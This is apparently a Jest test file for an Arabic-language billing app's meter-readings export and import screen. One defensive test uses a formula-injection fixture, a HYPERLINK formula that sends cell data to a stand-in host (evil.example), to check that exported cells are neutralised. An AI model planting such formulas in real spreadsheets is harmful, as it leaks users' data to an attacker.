import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { screen, waitFor, within } from '@testing-library/react';
import { parse as parseDelimited } from 'papaparse';
import { billingSystems } from '../../../test/billing-systems-fixtures';
import {
  FakeEventSource,
  installFakeEventSource,
  removeFakeEventSource,
} from '../../../test/fake-event-source';
import { mockFetch, operator, type FakeRoute } from '../../../test/mock-fetch';
import { onAPhone } from '../../../test/phone-screen';
import { renderApp } from '../../../test/render-app';
import type { ReadingExportRow } from '@kahraba/billing-domain';

const exportRow = (overrides: Partial<ReadingExportRow> = {}): ReadingExportRow => ({
  id: 'c-1001',
  customerNumber: 1001,
  name: 'سامر الحلبي',
  box: '7',
  address: 'الحمرا',
  ampere: 5,
  previousKwh: 100,
  currentKwh: 150,
  newCurrentKwh: '',
  previousEstimated: false,
  currentEstimated: false,
  ...overrides,
});

const rows = [
  exportRow(),
  exportRow({ id: 'c-1002', customerNumber: 1002, name: 'ريم خوري', previousKwh: 40, currentKwh: 0 }),
];

const HEADER = 'id\tcustomerNumber\tname\tbox\taddress\tampere\tpreviousKwh\tcurrentKwh\tnewCurrentKwh';
/** The header of the exported sheet: an estimate's mark beside each reading. */
const EXPORTED_HEADER =
  'id\tcustomerNumber\tname\tbox\taddress\tampere\tpreviousKwh\tpreviousEstimated\tcurrentKwh\tcurrentEstimated\tnewCurrentKwh';
const PASTED = `${HEADER}\nc-1001\t1001\tسامر الحلبي\t7\tالحمرا\t5\t100\t150\t180\nc-1002\t1002\tريم خوري\t7\t\t5\t40\t0\t30\n`;

const previewAnswer = {
  message: 'سيتم تحديث عميل واحد',
  updated: 1,
  skipped: [
    {
      line: 3,
      reason: 'القراءة الجديدة 30 أقل من القراءة السابقة 40',
      customerNumber: 1002,
      name: 'ريم خوري',
      box: '7',
    },
  ],
  warnings: [
    {
      line: 2,
      reason: 'الاستهلاك 30 أعلى من 5 أضعاف الشهر الماضي',
      customerNumber: 1001,
      name: 'سامر الحلبي',
      box: '7',
    },
  ],
  rows: [
    {
      line: 2,
      id: 'c-1001',
      customerNumber: 1001,
      name: 'سامر الحلبي',
      previousKwh: 100,
      currentKwh: 150,
      newPreviousKwh: 150,
      newCurrentKwh: 180,
      consumption: 30,
    },
  ],
};

function setup(routes: Record<string, FakeRoute> = {}, path = '/reading-export-import') {
  const fetchMock = mockFetch({
    'GET /api/auth/user': { status: 200, body: operator },
    'GET /api/billing-systems': { status: 200, body: billingSystems },
    'GET /api/mahmoud-kwh-customers/export-for-readings': { status: 200, body: rows },
    'GET /api/mahmoud-kwh-customers/month': {
      status: 200,
      body: {
        system: 'mahmoud-kwh',
        liveMonth: '2026-11',
        label: 'تشرين الثاني 2026',
        nextMonth: '2026-12',
        nextLabel: 'كانون الأول 2026',
      },
    },
    ...routes,
  });
  return { ...renderApp(path), fetchMock };
}

const mahmoud = '/reading-export-import?system=mahmoud-kwh';
const FIXTURES = join(__dirname, '../../../../../../libs/billing-domain/test-fixtures/sheets');
const region = (name: string) => screen.findByRole('region', { name });
const sentBody = (fetchMock: jest.Mock, url: string) =>
  JSON.parse(String(fetchMock.mock.calls.find(([called]) => called === url)?.[1]?.body)) as unknown;

describe('the readings export and import screen', () => {
  it('has a tab for every metered group, a fourth one included, in display order, then the generic list', async () => {
    setup();

    const tabs = await screen.findAllByRole('tab');
    expect(tabs.map((tab) => tab.textContent)).toEqual([
      'كيلوواط محمود',
      'كيلوواط البيضاوي',
      'مجموعة تجريبية',
      'عدادات الكيلوواط',
    ]);
    expect(screen.getByRole('heading', { level: 1, name: 'تصدير واستيراد القراءات' })).toBeInTheDocument();
  });

  it('shows how many customers of the chosen group are ready to export, and the other group on its tab', async () => {
    const { user } = setup(
      {
        'GET /api/baydawi-kwh-customers/export-for-readings': { status: 200, body: [exportRow()] },
      },
      mahmoud,
    );

    expect(
      await within(await region('تصدير البيانات')).findByText('عميلان جاهزان للتصدير'),
    ).toBeInTheDocument();
    await user.click(screen.getByRole('tab', { name: 'كيلوواط البيضاوي' }));
    await waitFor(() =>
      expect(screen.getByRole('region', { name: 'تصدير البيانات' })).toHaveTextContent(
        'عميل واحد جاهز للتصدير',
      ),
    );
  });

  it('copies the rows as tab-separated text for Excel, header first', async () => {
    const { user } = setup({}, mahmoud);
    const card = await region('تصدير البيانات');
    await within(card).findByText('عميلان جاهزان للتصدير');

    await user.click(within(card).getByRole('button', { name: 'نسخ للصق في Excel' }));

    expect(await screen.findByText('تم النسخ إلى الحافظة')).toBeInTheDocument();
    expect((await navigator.clipboard.readText()).split('\n')).toEqual([
      EXPORTED_HEADER,
      'c-1001\t1001\tسامر الحلبي\t7\tالحمرا\t5\t100\t\t150\t\t',
      'c-1002\t1002\tريم خوري\t7\tالحمرا\t5\t40\t\t0\t\t',
      '',
    ]);
  });

  it("marks an estimated reading 'نعم' in the column beside it, the number alone in its cell", async () => {
    const estimated = [
      exportRow({ currentKwh: 175, currentEstimated: true }),
      exportRow({
        id: 'c-1002',
        customerNumber: 1002,
        name: 'ريم خوري',
        previousKwh: 40,
        previousEstimated: true,
      }),
    ];
    const { user } = setup(
      { 'GET /api/mahmoud-kwh-customers/export-for-readings': { status: 200, body: estimated } },
      mahmoud,
    );
    const card = await region('تصدير البيانات');
    await within(card).findByText('عميلان جاهزان للتصدير');
    expect(within(card).getByText(/القراءة المقدّرة \(عداد لم يُقرأ\) تحمل «نعم»/)).toBeInTheDocument();

    await user.click(within(card).getByRole('button', { name: 'نسخ للصق في Excel' }));

    expect(await screen.findByText('تم النسخ إلى الحافظة')).toBeInTheDocument();
    expect((await navigator.clipboard.readText()).split('\n').slice(1, 3)).toEqual([
      'c-1001\t1001\tسامر الحلبي\t7\tالحمرا\t5\t100\t\t175\tنعم\t',
      'c-1002\t1002\tريم خوري\t7\tالحمرا\t5\t40\tنعم\t150\t\t',
    ]);
  });

  it('downloads CSV in UTF-8 with a byte-order mark, and a real xlsx workbook', async () => {
    const files: Blob[] = [];
    URL.createObjectURL = jest.fn((blob: Blob) => {
      files.push(blob);
      return 'blob:readings';
    });
    URL.revokeObjectURL = jest.fn();
    const names: string[] = [];
    jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      names.push(this.download);
    });
    const { user } = setup({}, mahmoud);
    const card = await region('تصدير البيانات');
    await within(card).findByText('عميلان جاهزان للتصدير');

    await user.click(within(card).getByRole('button', { name: 'تنزيل CSV' }));
    await user.click(within(card).getByRole('button', { name: 'تنزيل Excel ‏(xlsx)' }));

    await waitFor(() => expect(files).toHaveLength(2));
    expect(names).toEqual(['mahmoud-kwh-readings.csv', 'mahmoud-kwh-readings.xlsx']);
    const csv = new Uint8Array(await readBlob(files[0]));
    expect(files[0].type).toBe('text/csv;charset=utf-8');
    expect([...csv.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(csv)).toContain('c-1001,1001,سامر الحلبي,7,الحمرا,5,100,,150,,');
    expect(files[1].type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    // an xlsx file is a zip: it starts with PK
    expect([...new Uint8Array(await readBlob(files[1])).slice(0, 2)]).toEqual([0x50, 0x4b]);
  });

  it('copies and downloads what customers typed as data: no cell begins with a formula character, numbers stay numbers', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
    const risky = [
      exportRow({ name: hyperlink, box: '-عميل', address: '+961 3 123456' }),
      exportRow({ id: 'c-1002', customerNumber: 1002, name: '@SUM(A1:A9)', box: null, currentKwh: 0 }),
    ];
    const files: Blob[] = [];
    URL.createObjectURL = jest.fn((blob: Blob) => {
      files.push(blob);
      return 'blob:readings';
    });
    URL.revokeObjectURL = jest.fn();
    jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
    const { user } = setup(
      { 'GET /api/mahmoud-kwh-customers/export-for-readings': { status: 200, body: risky } },
      mahmoud,
    );
    const card = await region('تصدير البيانات');
    await within(card).findByText('عميلان جاهزان للتصدير');

    await user.click(within(card).getByRole('button', { name: 'نسخ للصق في Excel' }));
    await user.click(within(card).getByRole('button', { name: 'تنزيل CSV' }));
    await waitFor(() => expect(files).toHaveLength(1));

    const opened = (text: string, delimiter: string) => {
      const { data, errors } = parseDelimited<(string | number | null)[]>(text.replace(/^\uFEFF/, ''), {
        delimiter,
        dynamicTyping: true,
        skipEmptyLines: true,
      });
      expect(errors).toEqual([]);
      return data.slice(1);
    };
    for (const data of [
      opened(await navigator.clipboard.readText(), '\t'),
      opened(new TextDecoder().decode(await readBlob(files[0])), ','),
    ]) {
      expect(data.map((row) => row.slice(1))).toEqual([
        [1001, `'${hyperlink}`, "'-عميل", "'+961 3 123456", 5, 100, null, 150, null, null],
        [1002, "'@SUM(A1:A9)", null, 'الحمرا', 5, 100, null, 0, null, null],
      ]);
      for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('offers nothing to export for a group without customers', async () => {
    setup(
      { 'GET /api/baydawi-kwh-customers/export-for-readings': { status: 200, body: [] } },
      '/reading-export-import?system=baydawi-kwh',
    );

    const card = await region('تصدير البيانات');
    expect(await within(card).findByText('لا توجد بيانات للتصدير')).toBeInTheDocument();
    expect(within(card).getByRole('button', { name: 'نسخ للصق في Excel' })).toBeDisabled();
    expect(within(card).getByRole('button', { name: 'تنزيل CSV' })).toBeDisabled();
  });

  it('previews the import: the refused and warned rows first, with their sheet row and customer, then each row before and after, nothing written', async () => {
    const { user, fetchMock } = setup(
      { 'POST /api/mahmoud-kwh-customers/bulk-update-readings': { status: 200, body: previewAnswer } },
      mahmoud,
    );
    const card = await region('استيراد القراءات');

    await user.click(within(card).getByLabelText('البيانات الملصقة من Excel'));
    await user.paste(PASTED);
    await user.click(within(card).getByRole('button', { name: 'معاينة' }));

    const table = await within(card).findByRole('table', { name: 'الصفوف التي ستُحدَّث' });
    const row = within(table).getAllByRole('row')[1];
    expect(row).toHaveTextContent('#1001');
    expect(row).toHaveTextContent('سامر الحلبي');
    expect(row).toHaveTextContent('100 ← 150');
    expect(row).toHaveTextContent('150 ← 180');
    expect(row).toHaveTextContent('30');
    expect(card).toHaveTextContent('سيتم تحديث عميل واحد وتخطي سطر واحد مع تنبيه واحد. لم يُكتب شيء بعد.');
    const refused = within(card).getByRole('heading', { name: 'صفوف مرفوضة (لن تُستورد)' }).parentElement!;
    expect(refused).toHaveTextContent(
      'الصف 3 · #1002 · ريم خوري · العلبة 7: القراءة الجديدة 30 أقل من القراءة السابقة 40',
    );
    expect(card).toHaveTextContent(
      'الصف 2 · #1001 · سامر الحلبي · العلبة 7: الاستهلاك 30 أعلى من 5 أضعاف الشهر الماضي',
    );
    // Refusals first: above the preview table, not under it.
    expect(refused.compareDocumentPosition(table) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
    expect(sentBody(fetchMock, '/api/mahmoud-kwh-customers/bulk-update-readings')).toEqual({
      dryRun: true,
      rowNumbers: [2, 3],
      readings: [
        {
          id: 'c-1001',
          customerNumber: '1001',
          name: 'سامر الحلبي',
          box: '7',
          address: 'الحمرا',
          ampere: '5',
          previousKwh: '100',
          currentKwh: '150',
          newCurrentKwh: '180',
        },
        {
          id: 'c-1002',
          customerNumber: '1002',
          name: 'ريم خوري',
          box: '7',
          address: '',
          ampere: '5',
          previousKwh: '40',
          currentKwh: '0',
          newCurrentKwh: '30',
        },
      ],
    });
  });

  it('updates the readings and says what the server did, with the rows it refused; the input stays until cleared', async () => {
    const { user, fetchMock } = setup(
      {
        'POST /api/mahmoud-kwh-customers/bulk-update-readings': {
          status: 200,
          body: { message: 'تم تحديث 1 قراءة', updated: 1, skipped: previewAnswer.skipped, warnings: [] },
        },
      },
      mahmoud,
    );
    const card = await region('استيراد القراءات');
    const paste = within(card).getByLabelText('البيانات الملصقة من Excel');

    await user.click(paste);
    await user.paste(PASTED);
    await user.click(within(card).getByRole('button', { name: 'تحديث القراءات' }));

    const toast = await screen.findByText('تم تحديث القراءات', { selector: '.app-toast-title' });
    expect(toast.parentElement).toHaveTextContent('تم تحديث 1 قراءة');
    expect(card).toHaveTextContent(
      'الصف 3 · #1002 · ريم خوري · العلبة 7: القراءة الجديدة 30 أقل من القراءة السابقة 40',
    );
    expect(paste).toHaveValue(PASTED);
    expect(sentBody(fetchMock, '/api/mahmoud-kwh-customers/bulk-update-readings')).toMatchObject({
      dryRun: false,
    });

    await user.click(within(card).getByRole('button', { name: 'مسح البيانات' }));
    expect(paste).toHaveValue('');
    expect(card).not.toHaveTextContent('صفوف مرفوضة');
  });

  it('exports and updates the readings of the generic list on its own tab (docs/metered-groups.md)', async () => {
    const { user, fetchMock } = setup(
      {
        'GET /api/kwh-customers/export-for-readings': { status: 200, body: rows },
        'POST /api/kwh-customers/bulk-update-readings': {
          status: 200,
          body: { message: 'تم تحديث 1 قراءة', updated: 1, skipped: previewAnswer.skipped, warnings: [] },
        },
      },
      '/reading-export-import?system=kwh',
    );

    expect(await screen.findByRole('tab', { name: 'عدادات الكيلوواط', selected: true })).toBeInTheDocument();
    expect(
      await within(await region('تصدير البيانات')).findByText('عميلان جاهزان للتصدير'),
    ).toBeInTheDocument();
    const card = await region('استيراد القراءات');
    await user.click(within(card).getByLabelText('البيانات الملصقة من Excel'));
    await user.paste(PASTED);
    await user.click(within(card).getByRole('button', { name: 'تحديث القراءات' }));

    expect(
      await screen.findByText('تم تحديث القراءات', { selector: '.app-toast-title' }),
    ).toBeInTheDocument();
    expect(sentBody(fetchMock, '/api/kwh-customers/bulk-update-readings')).toMatchObject({ dryRun: false });
  });

  it('gives the refused and warned rows back as a sheet to fix, as the operator wrote them, with the reasons', async () => {
    const files: Blob[] = [];
    URL.createObjectURL = jest.fn((blob: Blob) => {
      files.push(blob);
      return 'blob:readings';
    });
    URL.revokeObjectURL = jest.fn();
    jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
    const { user } = setup(
      { 'POST /api/mahmoud-kwh-customers/bulk-update-readings': { status: 200, body: previewAnswer } },
      mahmoud,
    );
    const card = await region('استيراد القراءات');
    await user.click(within(card).getByLabelText('البيانات الملصقة من Excel'));
    await user.paste(PASTED);
    await user.click(within(card).getByRole('button', { name: 'معاينة' }));

    await user.click(await within(card).findByRole('button', { name: 'تنزيل هذه الصفوف لتصحيحها (صفان)' }));
    await waitFor(() => expect(files).toHaveLength(1));
    const { data } = parseDelimited<string[]>(
      new TextDecoder().decode(await readBlob(files[0])).replace(/^\uFEFF/, ''),
      { skipEmptyLines: true },
    );
    expect(data).toEqual([
      [...HEADER.split('\t'), 'السبب'],
      [
        'c-1001',
        '1001',
        'سامر الحلبي',
        '7',
        'الحمرا',
        '5',
        '100',
        '150',
        '180',
        'الاستهلاك 30 أعلى من 5 أضعاف الشهر الماضي',
      ],
      [
        'c-1002',
        '1002',
        'ريم خوري',
        '7',
        '',
        '5',
        '40',
        '0',
        '30',
        'القراءة الجديدة 30 أقل من القراءة السابقة 40',
      ],
    ]);
  });

  it('reads back the CSV the screen downloads, pasted as text', async () => {
    const { user, fetchMock } = setup(
      { 'POST /api/mahmoud-kwh-customers/bulk-update-readings': { status: 200, body: previewAnswer } },
      mahmoud,
    );
    const card = await region('استيراد القراءات');
    await user.click(within(card).getByLabelText('البيانات الملصقة من Excel'));
    await user.paste(`${HEADER.replace(/\t/g, ',')}\r\nc-1001,1001,سامر الحلبي,7,الحمرا,5,100,150,180\r\n`);
    await user.click(within(card).getByRole('button', { name: 'معاينة' }));

    await within(card).findByRole('table', { name: 'الصفوف التي ستُحدَّث' });
    expect(sentBody(fetchMock, '/api/mahmoud-kwh-customers/bulk-update-readings')).toMatchObject({
      readings: [{ id: 'c-1001', newCurrentKwh: '180' }],
      rowNumbers: [2],
    });
  });

  // the same files as the CLI's test (libs/billing-domain/test-fixtures/sheets);
  // the CLI's test shows the server refusing rows 4 and 5 of them, numbered as sent here.
  it.each(['readings.xlsx', 'readings.ods', 'readings-windows-1256.csv'])(
    'imports %s chosen as a file: each reading sent with the row number the spreadsheet shows',
    async (name) => {
      const { user, fetchMock } = setup(
        {
          'POST /api/mahmoud-kwh-customers/bulk-update-readings': {
            status: 200,
            body: {
              message: 'معاينة',
              updated: 1,
              skipped: [
                {
                  line: 4,
                  reason: 'القراءة الجديدة (150) أقل من القراءة التي تسبقها (200)',
                  customerNumber: 1001,
                  name: 'سامي',
                  box: null,
                },
                {
                  line: 5,
                  reason: 'لا يوجد عميل بالرقم #1005',
                  customerNumber: 1005,
                  name: 'زبون مجهول',
                  box: '9',
                },
              ],
              warnings: [],
              rows: [],
            },
          },
        },
        mahmoud,
      );
      const card = await region('استيراد القراءات');
      const bytes = readFileSync(join(FIXTURES, name));
      await user.upload(
        within(card).getByLabelText('أو اختر ملفاً: xlsx أو ods أو csv أو tsv'),
        new File([bytes], name),
      );

      expect(
        await within(card).findByText(`قُرئ الملف «${name}»: راجع البيانات ثم اضغط «معاينة»`),
      ).toBeInTheDocument();
      expect(within(card).getByLabelText('البيانات الملصقة من Excel')).toHaveValue(
        'customerNumber\tname\tbox\tpreviousKwh\tcurrentKwh\tnewCurrentKwh\n1000\tأحمد\t3\t100\t150\t200\n\n1001\tسامي\t\t200\t0\t150\n1005\tزبون مجهول\t9\t0\t0\t10\n',
      );
      await user.click(within(card).getByRole('button', { name: 'معاينة' }));

      await waitFor(() =>
        expect(card).toHaveTextContent(
          'الصف 4 · #1001 · سامي: القراءة الجديدة (150) أقل من القراءة التي تسبقها (200)',
        ),
      );
      expect(card).toHaveTextContent('الصف 5 · #1005 · زبون مجهول · العلبة 9: لا يوجد عميل بالرقم #1005');
      const sent = sentBody(fetchMock, '/api/mahmoud-kwh-customers/bulk-update-readings') as {
        readings: Record<string, string>[];
        rowNumbers: number[];
      };
      expect(sent.readings.map((row) => [row.customerNumber, row.newCurrentKwh])).toEqual([
        ['1000', '200'],
        ['1001', '150'],
        ['1005', '10'],
      ]);
      expect(sent.rowNumbers).toEqual([2, 4, 5]);
    },
  );

  it('refuses a file it cannot read, and a sheet without the reading column, in Arabic, sending nothing', async () => {
    const { user, fetchMock } = setup({}, mahmoud);
    const card = await region('استيراد القراءات');
    await user.upload(
      within(card).getByLabelText('أو اختر ملفاً: xlsx أو ods أو csv أو tsv'),
      new File(['not a workbook'], 'readings.xlsx'),
    );
    const toast = await screen.findByText('تعذّرت قراءة الملف');
    expect(toast.parentElement).toHaveTextContent('الملف ليس ملف xlsx صالحاً أو أنه تالف');

    await user.upload(
      within(card).getByLabelText('أو اختر ملفاً: xlsx أو ods أو csv أو tsv'),
      new File(['foo,bar\n1,2\n'], 'foreign.csv'),
    );
    await user.click(within(card).getByRole('button', { name: 'معاينة' }));
    const refused = await screen.findByText('خطأ في قراءة البيانات');
    expect(refused.parentElement).toHaveTextContent(
      'سطر العناوين لا يحتوي على عمود القراءة الجديدة: newCurrentKwh أو «القراءة الجديدة»',
    );
    expect(fetchMock.mock.calls.some(([url]) => String(url).includes('bulk-update-readings'))).toBe(false);
  });

  // docs/sheet-files.md: the 30 MB CSV that froze the page for minutes is refused by its size, at once.
  it('refuses a 30 MB sheet in Arabic, naming the size limit, and the card stays usable', async () => {
    const { user, fetchMock } = setup({}, mahmoud);
    const card = await region('استيراد القراءات');
    const picker = within(card).getByLabelText('أو اختر ملفاً: xlsx أو ods أو csv أو tsv');
    await user.upload(picker, new File([new Uint8Array(30 * 1024 * 1024).fill(0x2c)], 'big.csv'));

    const toast = await screen.findByText('تعذّرت قراءة الملف');
    expect(toast.parentElement).toHaveTextContent(
      'الملف أكبر من الحد: حجمه 30 ميغابايت والحد الأقصى 25 ميغابايت',
    );
    expect(picker).toBeEnabled();
    expect(within(card).getByLabelText('البيانات الملصقة من Excel')).toHaveValue('');
    expect(fetchMock.mock.calls.some(([url]) => String(url).includes('bulk-update-readings'))).toBe(false);
  });

  it('keeps the update button off while nothing is pasted', async () => {
    setup({}, mahmoud);
    const card = await region('استيراد القراءات');

    expect(within(card).getByRole('button', { name: 'تحديث القراءات' })).toBeDisabled();
    expect(within(card).getByRole('textbox', { name: 'البيانات الملصقة من Excel' })).toHaveAttribute(
      'rows',
      '10',
    );
  });

  it('says there is no data to import when only the header is pasted, and sends nothing', async () => {
    const { user, fetchMock } = setup({}, mahmoud);
    const card = await region('استيراد القراءات');

    await user.click(within(card).getByLabelText('البيانات الملصقة من Excel'));
    await user.paste(`${HEADER}\n`);
    await user.click(within(card).getByRole('button', { name: 'تحديث القراءات' }));

    const toast = await screen.findByText('خطأ في قراءة البيانات');
    expect(toast.parentElement).toHaveTextContent('لا يوجد بعد سطر العناوين أي صف');
    expect(fetchMock.mock.calls.some(([url]) => String(url).includes('bulk-update-readings'))).toBe(false);
  });

  it('says the paste cannot be read when the header line is not the exported one', async () => {
    const { user, fetchMock } = setup({}, mahmoud);
    const card = await region('استيراد القراءات');

    await user.click(within(card).getByLabelText('البيانات الملصقة من Excel'));
    await user.paste('1001\t180\n1002\t190');
    await user.click(within(card).getByRole('button', { name: 'معاينة' }));

    const toast = await screen.findByText('خطأ في قراءة البيانات');
    expect(toast.parentElement).toHaveTextContent('newCurrentKwh');
    expect(fetchMock.mock.calls.some(([url]) => String(url).includes('bulk-update-readings'))).toBe(false);
  });

  it('shows the refusal of the server when the update fails', async () => {
    const { user } = setup(
      {
        'POST /api/mahmoud-kwh-customers/bulk-update-readings': {
          status: 400,
          body: { message: 'لا توجد قراءات صالحة', code: 'NO_VALID_ROWS' },
        },
      },
      mahmoud,
    );
    const card = await region('استيراد القراءات');

    await user.click(within(card).getByLabelText('البيانات الملصقة من Excel'));
    await user.paste(PASTED);
    await user.click(within(card).getByRole('button', { name: 'تحديث القراءات' }));

    const toast = await screen.findByText('فشل في تحديث القراءات');
    expect(toast.parentElement).toHaveTextContent('لا توجد قراءات صالحة');
  });

  it('says what the undo takes back, and undoes that batch only once confirmed', async () => {
    const batchId = '7d0c9a52-1111-4222-8333-944444444444';
    const { user, fetchMock } = setup(
      {
        'GET /api/mahmoud-kwh-customers/undo-last-batch': {
          status: 200,
          body: {
            batchId,
            kind: 'readings-import',
            createdBy: 'rania@example.com',
            createdAt: '2026-11-20T08:30:00.000Z',
            createdCount: 0,
            updatedCount: 2,
          },
        },
        [`DELETE /api/mahmoud-kwh-customers/undo-last-batch?batchId=${batchId}`]: {
          status: 200,
          body: { deletedCount: 0, revertedCount: 2 },
        },
      },
      mahmoud,
    );
    const card = await region('التراجع عن آخر عملية');

    await user.click(within(card).getByRole('button', { name: 'تراجع عن آخر عملية' }));
    const dialog = await screen.findByRole('dialog', { name: 'التراجع عن آخر عملية؟' });
    expect(dialog).toHaveTextContent('سيتم التراجع عن استيراد القراءات قام به');
    expect(dialog).toHaveTextContent('إعادة عميلين إلى قيمهم السابقة');
    await user.click(within(dialog).getByRole('button', { name: 'تراجع' }));

    const toast = await screen.findByText('تم التراجع بنجاح');
    expect(toast.parentElement).toHaveTextContent('حذف 0 سجل وإعادة سجلين إلى قيمها السابقة');
    expect(fetchMock).toHaveBeenCalledWith(
      `/api/mahmoud-kwh-customers/undo-last-batch?batchId=${batchId}`,
      expect.objectContaining({ method: 'DELETE' }),
    );
  });

  it('says so without asking when there is nothing to undo (after a month close)', async () => {
    const { user } = setup(
      {
        'GET /api/mahmoud-kwh-customers/undo-last-batch': {
          status: 404,
          body: { message: 'لا توجد عملية للتراجع عنها' },
        },
      },
      mahmoud,
    );
    const card = await region('التراجع عن آخر عملية');

    await user.click(within(card).getByRole('button', { name: 'تراجع عن آخر عملية' }));

    const toast = await screen.findByText('خطأ في التراجع');
    expect(toast.parentElement).toHaveTextContent('لا توجد عملية للتراجع عنها');
    expect(screen.queryByRole('dialog')).not.toBeInTheDocument();
  });

  it('starts a new month for the named group once confirmed', async () => {
    const { user, fetchMock } = setup(
      {
        'POST /api/mahmoud-kwh-customers/start-new-month-readings': {
          status: 200,
          body: { message: 'تم بدء شهر جديد', totalCustomers: 2, month: '2026-11' },
        },
      },
      mahmoud,
    );
    const card = await region('بدء شهر جديد');

    await user.click(within(card).getByRole('button', { name: 'بدء شهر جديد' }));
    const dialog = await screen.findByRole('dialog', { name: 'بدء شهر جديد في كيلوواط محمود؟' });
    await waitFor(() => expect(dialog).toHaveTextContent('سيتم إغلاق شهر تشرين الثاني 2026'));
    expect(dialog).toHaveTextContent('لا يمكن التراجع عن هذه العملية');
    await user.click(within(dialog).getByRole('button', { name: 'بدء الشهر الجديد' }));

    const toast = await screen.findByText('تم بدء شهر جديد', { selector: '.app-toast-title' });
    expect(toast.parentElement).toHaveTextContent('بدأ شهر جديد في كيلوواط محمود');
    expect(fetchMock).toHaveBeenCalledWith(
      '/api/mahmoud-kwh-customers/start-new-month-readings',
      expect.objectContaining({ method: 'POST' }),
    );
  });

  it('does not start a new month when the operator cancels', async () => {
    const { user, fetchMock } = setup({}, mahmoud);
    const card = await region('بدء شهر جديد');

    await user.click(within(card).getByRole('button', { name: 'بدء شهر جديد' }));
    await user.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'إلغاء' }));

    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
    expect(fetchMock.mock.calls.some(([url]) => String(url).includes('start-new-month-readings'))).toBe(
      false,
    );
  });

  it('explains the workflow: current becomes previous, the new reading becomes current', async () => {
    setup({}, mahmoud);

    const card = await region('طريقة الاستخدام');
    expect(card).toHaveTextContent('newCurrentKwh');
    expect(card).toHaveTextContent(
      'تصبح القراءة الحالية هي القراءة السابقة، وتصبح القراءة الجديدة هي القراءة الحالية',
    );
  });
});

describe('the readings screen follows the group live updates', () => {
  beforeEach(installFakeEventSource);
  afterEach(removeFakeEventSource);

  it('counts a customer added elsewhere without a reload', async () => {
    let exported = [exportRow()];
    setup(
      { 'GET /api/mahmoud-kwh-customers/export-for-readings': () => ({ status: 200, body: exported }) },
      mahmoud,
    );
    const card = await region('تصدير البيانات');
    await within(card).findByText('عميل واحد جاهز للتصدير');
    const [stream] = FakeEventSource.live();
    expect(stream!.url).toBe('/api/sse/mahmoud-updates');

    exported = rows;
    stream!.send({ type: 'mahmoud-customer-created', data: { id: 'c-1002', name: 'ريم خوري' } });

    expect(await within(card).findByText('عميلان جاهزان للتصدير')).toBeInTheDocument();
  });
});

describe('the readings screen on a phone', () => {
  onAPhone();

  it('shows the preview as cards', async () => {
    const { user } = setup(
      { 'POST /api/mahmoud-kwh-customers/bulk-update-readings': { status: 200, body: previewAnswer } },
      mahmoud,
    );
    const card = await region('استيراد القراءات');

    await user.click(within(card).getByLabelText('البيانات الملصقة من Excel'));
    await user.paste(PASTED);
    await user.click(within(card).getByRole('button', { name: 'معاينة' }));

    const change = await within(card).findByRole('article', { name: 'سامر الحلبي' });
    expect(change).toHaveTextContent('الصف 2');
    expect(change).toHaveTextContent('150 ← 180');
    expect(within(card).queryByRole('table')).not.toBeInTheDocument();
  });
});

function readBlob(blob: Blob): Promise<ArrayBuffer> {
  return new Promise((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(reader.result as ArrayBuffer);
    reader.onerror = () => reject(reader.error);
    reader.readAsArrayBuffer(blob);
  });
}
